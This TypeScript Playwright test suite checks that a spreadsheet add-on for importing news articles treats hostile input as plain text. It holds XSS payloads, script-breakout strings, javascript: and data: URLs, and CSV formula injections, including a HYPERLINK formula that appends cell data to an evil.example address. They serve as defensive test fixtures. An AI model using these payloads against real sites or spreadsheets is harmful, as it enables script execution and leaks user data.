/** Text from outside is text, wherever it is shown: markup, scripts and formulas in every field that takes one. */
import type { Browser, Download } from 'playwright-core';
import { readFileSync } from 'node:fs';
import { openAtWorkbench } from './support/at-workbench';
import type { Person } from './support/person';
import { addressOf } from './support/person';
import { Reviewer } from './support/reviewer';
import { until } from './support/until';
import { TRAP, Watch } from './support/watch';

const SPRING = `window.${TRAP}=1;alert(1)`;
const IMAGE = `<img src=x onerror="${SPRING}">`;
const SCRIPT = `</script></style></textarea></title><script>${SPRING}</script>`;
const HOVER = `<b style="position:fixed;inset:0" onmouseover="${SPRING}" onclick="${SPRING}">all over</b>`;

/** Real news around it, so that every tab gets rows whose evidence holds the hostile parts. */
const TEXT =
  `Qatari Defence Minister Khalid bin Mohammed Al-Attiyah ${IMAGE} and his Turkish counterpart Hulusi Akar ` +
  `signed a military training agreement in Doha on 12 March 2019 ${SCRIPT} and 512 Qatari police officers ` +
  `have completed the programme so far. ${HOVER}\n=HYPERLINK("https://evil.example/?"&A1,"click")\n=1+1`;

/** One article a row; the columns are named so that the dialog knows them. */
const ROWS = [
  ['text', 'title', 'outlet', 'url', 'published_on'],
  [TEXT, IMAGE, SCRIPT, `javascript:${SPRING}//`, '2019-03-13'],
  [`${TEXT} Second.`, '=1+1', '+2+3', 'https://evil.example/"><script>alert(1)</script>', '2019-03-14'],
  [`${TEXT} Third.`, '@SUM(1,2)', '-2+3', `data:text/html,<script>${SPRING}</script>`, '2019-03-15'],
  [`${TEXT} Fourth.`, HOVER, '=IMPORTXML("https://evil.example/","//a")', '{{7*7}}${7*7}', '2019-03-16'],
];
const FILE = `<img src=x onerror=alert(1)>.csv`;
const NAME = `<i onclick=alert(1)>Layla</i>`;

function csv(rows: readonly string[][]): string {
  return rows.map((row) => row.map((field) => `"${field.replace(/"/g, '""')}"`).join(',')).join('\r\n');
}

let browser: Browser;
let person: Person;

openAtWorkbench(
  (opened) => {
    ({ browser, person } = opened);
  },
  { options: ['--empty'] },
);

afterEach(async () => {
  expect(await person.watch.sprung()).toEqual([]);
  // What is shown as text has made no element.
  for (const frame of person.page.frames()) {
    const made = await frame
      .locator('[onerror], [onclick]')
      .count()
      .catch((error: unknown) => {
        // A page that is closed while it is looked at.
        if (frame.isDetached()) return 0;
        throw error;
      });
    expect(made).toBe(0);
  }
});

test.each([IMAGE, SCRIPT])('%s would spring where it is not shown as text', async (text) => {
  const page = await browser.newPage();
  const watch = new Watch(page);
  await page.setContent(`<p>${text}</p>`);
  await page.waitForFunction((trap) => trap in window, TRAP);
  expect(await watch.sprung()).toHaveLength(1);
  expect(watch.troubles).toContain('alert: 1');
  await page.close();
});

describe('hostile articles', () => {
  test('go through preview, import and report', async () => {
    await person.choose('Import articles');
    const dialog = person.addonPage('Import articles');
    await dialog.getByLabel('Your name').fill(NAME);
    await dialog.getByRole('radio', { name: 'Files' }).check();
    await dialog.getByLabel('Choose files').setInputFiles({
      name: FILE,
      mimeType: 'text/csv',
      buffer: Buffer.from(csv(ROWS), 'utf8'),
    });
    await dialog.getByRole('listitem').getByText(FILE).waitFor();
    await dialog.getByRole('button', { name: 'Preview' }).click();
    await dialog.getByText('New: 4, already here: 0, refused: 0').waitFor();
    for (const [, title = ''] of ROWS.slice(1))
      expect(await dialog.getByRole('cell', { name: title, exact: true }).count()).toBe(1);
    await person.screenshot('hostile-preview');
    await dialog.getByRole('button', { name: 'Import 4' }).click();
    await dialog.getByText(/^Proposals: [1-9]\d* events?,/).waitFor();
    expect(await dialog.getByText(`${FILE}, row 2: imported.`).count()).toBe(1);
    await person.screenshot('hostile-report');
    await dialog.getByRole('button', { name: 'Close', exact: true }).click();
  });

  test('stand in the cells letter by letter', async () => {
    await person.openTab('Articles');
    for (const [index, [, title = '', outlet = '']] of ROWS.slice(1).entries()) {
      await expect(person.wholeText(`A${index + 2}`, title)).resolves.toBe(title);
      await expect(person.cell(`A${index + 2}`).innerText()).resolves.toBe(title);
      await expect(person.wholeText(`B${index + 2}`, outlet)).resolves.toBe(outlet);
    }
    await person.screenshot('hostile-articles');
  });

  test('prove rows with the hostile sentence as it was written', async () => {
    await person.openTab('Cooperation');
    await person.wholeText(addressOf('cooperation', 'evidence', 2), IMAGE);
    await person.screenshot('hostile-cooperation');
  });

  test.each(['Events', 'Officials', 'Figures', 'Codebook', 'Log'])('are text in the tab %s', async (tab) => {
    await person.openTab(tab);
    await person.cell('A2').waitFor();
    await person.cell('A2').hover();
  });

  test('are read and accepted in the sidebar', async () => {
    await person.openTab('Events');
    await person.choose('Review rows');
    const sidebar = person.addonPage('Accord');
    const article = sidebar.getByRole('region', { name: 'Article' }).last();
    await article.getByText(SCRIPT).waitFor();
    await article.getByText('=1+1', { exact: true }).waitFor();
    await sidebar.locator('mark').hover();
    await person.screenshot('hostile-sidebar');
    await new Reviewer(person).lookAtDomains();
    await sidebar.getByRole('button', { name: 'Accept', exact: true }).click();
    await sidebar.getByRole('button', { name: 'Previous' }).click();
    await sidebar.getByText(NAME).waitFor();
    await person.page.getByRole('button', { name: 'Close the sidebar' }).click();
  });

  test('are text in findings and in the summary', async () => {
    await person.choose('Validate sheet');
    const dialog = person.addonPage('Validate sheet');
    await dialog.getByRole('button', { name: 'Validate again' }).waitFor();
    await dialog.getByRole('button', { name: 'Close', exact: true }).click();
    await person.openTab('Findings');
    await person.screenshot('hostile-findings');
    await person.told('The summary is built', () => person.choose('Build summary'));
    await person.openTab('Summary');
    await person.page.getByRole('img', { name: 'Chart: Events by domain', exact: true }).waitFor();
    await person.screenshot('hostile-summary');
  });

  test('are harmless in files that a spreadsheet program opens', async () => {
    await person.choose('Export');
    const dialog = person.addonPage('Export');
    const downloads: Download[] = [];
    person.page.on('download', (download) => downloads.push(download));
    await dialog.getByRole('button', { name: 'Download' }).click();
    await dialog.getByText(/^Codebook: downloaded/).waitFor();
    await dialog.getByRole('button', { name: 'Close', exact: true }).click();
    await person.alert('Export').waitFor({ state: 'detached' });
    // The browser tells of a download after the page has.
    await until(
      async () => downloads.length,
      (count) => count > 0,
    );
    const articles = readFileSync((await downloads[0]?.path()) ?? '', 'utf8');
    for (const formula of ['=1+1', '+2+3', '@SUM(1,2)', '-2+3']) {
      expect(articles).toContain(`'${formula}`);
      expect(articles).not.toMatch(new RegExp(`(^|[,"\\n])${formula.replace(/[+(),]/g, '\\$&')}`));
    }
  });
});

describe('what a person types or pastes', () => {
  test('is a name of a tab, whatever it looks like', async () => {
    await person.openTab('Sheet1');
    await person.tab('Sheet1').dblclick();
    const field = person.page.getByRole('textbox', { name: 'Name of the tab' });
    await field.fill(IMAGE);
    await field.press('Enter');
    await person.tab(IMAGE).waitFor();
    await person.page.getByRole('button', { name: 'All tabs' }).click();
    await person.page.getByRole('menuitem', { name: IMAGE, exact: true }).click();
    await person.page.getByRole('application', { name: IMAGE }).waitFor();
  });

  test('is text in a cell', async () => {
    await person.goTo('B2');
    await person.formulaBar.fill(SCRIPT);
    await person.formulaBar.press('Enter');
    await person.cellsWith(SCRIPT).waitFor();
    await person.screenshot('hostile-cell');
  });
});
